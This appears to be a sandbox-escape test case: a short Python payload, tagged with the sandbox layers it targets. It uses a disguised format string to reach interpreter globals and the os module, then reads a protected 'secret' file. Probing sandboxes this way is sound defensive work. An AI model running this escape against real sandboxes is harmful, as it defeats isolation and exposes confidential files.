# class: format strings
# technique: the method taken and called later
# layers: analyzer, interpreter, landlock, seccomp, identity
# code: user
# allow: collections, contextlib, copy, dataclasses, datetime, decimal, enum, functools, json, logging, math, operator, random, re, statistics, string, typing, unicodedata
# witness: secret
host = _items[0]["json"]
import operator
def caught(run):
    try:
        run()
    except AttributeError as error:
        return operator.attrgetter(host["mark"][:0].join(["o", "bj"]))(error)
u = chr(95) * 2
template = "".join(["{0.", u, "init", u, ".", u, "glo", "bals", u, "[sys].nothing}"])
later = template.format
g = {"sys": caught(lambda: later(quit))}
os = g["sys"].modules["os"]
return [{"json": {"reached": os.read(os.open(host["secret"], 0), 4096).decode()}}]
